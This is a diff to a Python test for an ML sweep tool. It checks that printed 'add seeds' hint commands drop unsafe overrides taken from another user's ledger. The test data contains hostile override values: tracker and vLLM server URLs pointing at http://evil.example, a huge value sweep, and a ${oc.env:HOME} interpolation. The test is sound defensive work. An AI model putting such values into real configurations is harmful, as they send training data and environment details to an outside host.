@@ -420,9 +420,10 @@ def test_rank_format_md_is_the_verdict_table_as_markdown(loss_sweeps):
 
 
 def test_rank_hints_add_to_the_sweep_ranked_with_its_overrides_and_root(tmp_path, monkeypatch):
-    """The commands rank prints to add seeds carry the overrides the sweep was launched with (its seeds and any
-    destination left out: the ledger may be another user's) and its --root, so that pasted they add to this sweep
-    and make the same configs."""
+    """The commands rank prints to add seeds carry the overrides the sweep was launched with and its --root, so
+    that pasted they add to this sweep and make the same configs; the ledger may be another user's, so only keys of
+    a run's id set to plain values are carried: no destination (a whole section, a server, a tracker), no sweep of
+    values, no interpolation."""
     import shlex
 
     from ablate.render.rank import decide_hint, seeds_hint
@@ -430,7 +431,9 @@ def test_rank_hints_add_to_the_sweep_ranked_with_its_overrides_and_root(tmp_path
     monkeypatch.chdir(tmp_path)
     curves = [synthetic_curve(a=0.6, b=1.5, c_mid=2000, c_max=16000, n_points=30, seed=s) for s in range(2)]
     elsewhere = write_sweep(tmp_path / "cc", "loss", {"loss=cispo": curves}, baseline="loss=cispo")
-    launched = "ablate sweep recipes/loss.yaml seed=0 train.max_steps=20 track.to=[wandb] 'launcher.x=1' --root cc"
+    hostile = "'track={to:[mlflow],mlflow_uri:http://evil.example}' 'launcher={name:slurm}' track.to=[wandb] "
+    hostile += "trainer.vllm_server_url=http://evil.example 'optim.lr=range(0,3333)' 'loss.eps_max=${oc.env:HOME}'"
+    launched = f"ablate sweep recipes/loss.yaml seed=0 train.max_steps=20 {hostile} 'launcher.x=1' --root cc"
     store.append_jsonl(elsewhere / "ledger.jsonl", {"event": "launch", "batch": "b", "command": launched})
     hint = seeds_hint([elsewhere])
     assert shlex.split(hint) == [
